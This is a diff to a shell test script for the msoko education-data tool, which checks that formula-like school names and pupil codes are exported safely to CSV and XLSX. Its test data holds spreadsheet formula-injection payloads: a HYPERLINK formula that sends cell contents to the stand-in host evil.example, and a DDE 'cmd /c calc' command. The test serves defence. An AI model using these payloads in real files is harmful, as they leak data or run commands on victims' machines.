@@ -1,8 +1,9 @@
 #!/bin/sh
-# Exports that cannot hurt: a school named like a formula, and pupil codes holding «;» and «=»,
-# go into every CSV and XLSX msoko writes (the schools and list downloads of the web, the form
-# table XLSX of the web, the report XLSX, the experts' list of `recheck sample`) as text with a
-# leading apostrophe, quoted per RFC 4180, while number cells stay numbers.
+# Exports that cannot hurt: a school named like a formula (imported through the web's form)
+# and pupil codes holding «;», «"», «=» and «-» go into every CSV and XLSX msoko writes (the
+# schools and list downloads of the web, the form table XLSX of the web, the report XLSX, the
+# experts' list of `recheck sample`) as text with a leading apostrophe, quoted per RFC 4180,
+# while number cells stay numbers.
 . "$(dirname "$0")/tap.inc"
 command -v curl >/dev/null || { echo "1..0 # SKIP curl missing (scripts/deps.sh)"; exit 0; }
 command -v python3 >/dev/null || { echo "1..0 # SKIP python3 missing (scripts/deps.sh)"; exit 0; }
@@ -15,8 +16,6 @@ q() { sqlite3 "$db" "$1"; }
 evil='=HYPERLINK("http://evil.example/?d="&A1;"Подробнее")'
 printf 'Код ОО;Наименование ОО;Тип ОО;Местность;Уровни образования\nsch000001;"%s";СОШ;городская;НОО,ООО,СОО\nsch000002;"@SUM(1+1)*cmd|'"'"'/c calc'"'"'!A0";СОШ;сельская;НОО,ООО\n' \
     "$(printf '%s' "$evil" | sed 's/"/""/g')" >"$T/evil.csv"
-expect_ok "import schools named like formulas" "$M" import --db "$db" --kind schools "$T/evil.csv"
-expect_eq "…stored as they are" "$(q "SELECT name FROM school WHERE code = 'sch000001'")" "$evil"
 "$M" analyze --db "$db" --year 2024 >/dev/null
 "$M" user add ann --role analyst --password 'ann-pass-12' --db "$db" >/dev/null
 
@@ -35,6 +34,15 @@ st /login "$T/login.html" >/dev/null
 tok=$(grep -o 'name="csrf" value="[0-9a-f]*"' "$T/login.html" | head -1 | sed 's/.*value="//;s/"$//')
 curl -s -o /dev/null -b "$T/jar" -c "$T/jar" --data-urlencode "csrf=$tok" \
     --data-urlencode "login=ann" --data-urlencode "password=ann-pass-12" "$U/login"
+# the schools file goes in through the web's import form: check, then confirm
+st /imports "$T/imports.html" >/dev/null
+csrf=$(grep -o 'name="csrf" value="[0-9a-f]*"' "$T/imports.html" | head -1 | sed 's/.*value="//;s/"$//')
+expect_eq "web import check of the schools file" \
+    "$(curl -s -o "$T/check.html" -w '%{http_code}' -b "$T/jar" -c "$T/jar" -F "csrf=$csrf" -F kind=schools -F "file=@$T/evil.csv" "$U/imports")" 200
+token=$(grep -o 'name="token" value="[0-9a-f]*"' "$T/check.html" | sed 's/.*value="//;s/"$//')
+expect_eq "…confirmed" "$(curl -s -o /dev/null -w '%{http_code}' -b "$T/jar" -c "$T/jar" \
+    -d "csrf=$csrf&token=$token&name=evil.csv&kind=schools" "$U/imports/confirm")" 303
+expect_eq "…the names stored as they are" "$(q "SELECT name FROM school WHERE code = 'sch000001'")" "$evil"
 
 # cells CSV [SEP]: the fields of each row as JSON lines (Python's RFC 4180 reader)
 cells() {
